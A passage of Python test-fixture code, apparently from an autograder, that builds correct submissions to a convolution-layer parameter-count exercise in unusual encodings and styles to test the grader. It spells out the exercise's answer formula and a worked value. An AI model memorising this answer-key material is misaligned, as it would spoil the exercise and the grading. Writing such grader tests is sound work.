    code = f"def parameters(channels, filters, size):\n    {body}\n"
    return "\n\n".join((before, code, RIGHT_REST, helper)) + "\n"


def wild() -> dict[str, bytes]:
    """Honest answers in files that are written in other ways: bytes by name."""
    right = RIGHT_PARAMETERS + RIGHT_REST
    main = 'if __name__ == "__main__":\n    print(parameters(1, 1, 1))\n'
    return {
        "byte order mark and Windows lines": b"\xef\xbb\xbf" + right.replace("\n", "\r\n").encode(),
        "Latin-1 with a cookie": ("# -*- coding: latin-1 -*-\n# caf\xe9\n" + right).encode("latin-1"),
        "from __future__": ('"""Mine."""\nfrom __future__ import annotations\n' + right).encode(),
        "a main block": (right + main).encode(),
        "extra helpers and tests": (right + "\nassert parameters(3, 8, 5) == 608\n").encode(),
        "questions in another order": (RIGHT_REST + RIGHT_PARAMETERS).encode(),
        "lambda": (
            "parameters = lambda channels, filters, size: filters * (channels * size**2 + 1)\n" + RIGHT_REST
        ).encode(),
        "defined twice, right the second time": ("def parameters(a, b, c): return 0\n" + right).encode(),
        "an object that can be called": (
            "class Count:\n    def __call__(self, channels, filters, size):\n"
            "        return filters * (channels * size**2 + 1)\n\n\nparameters = Count()\n" + RIGHT_REST
        ).encode(),
        "rare modules": ("import colorsys, encodings.cp437, statistics\n" + right).encode(),
        "cached": right.replace("\ndef", "\nimport functools\n\n\n@functools.cache\ndef", 1).encode(),
    }
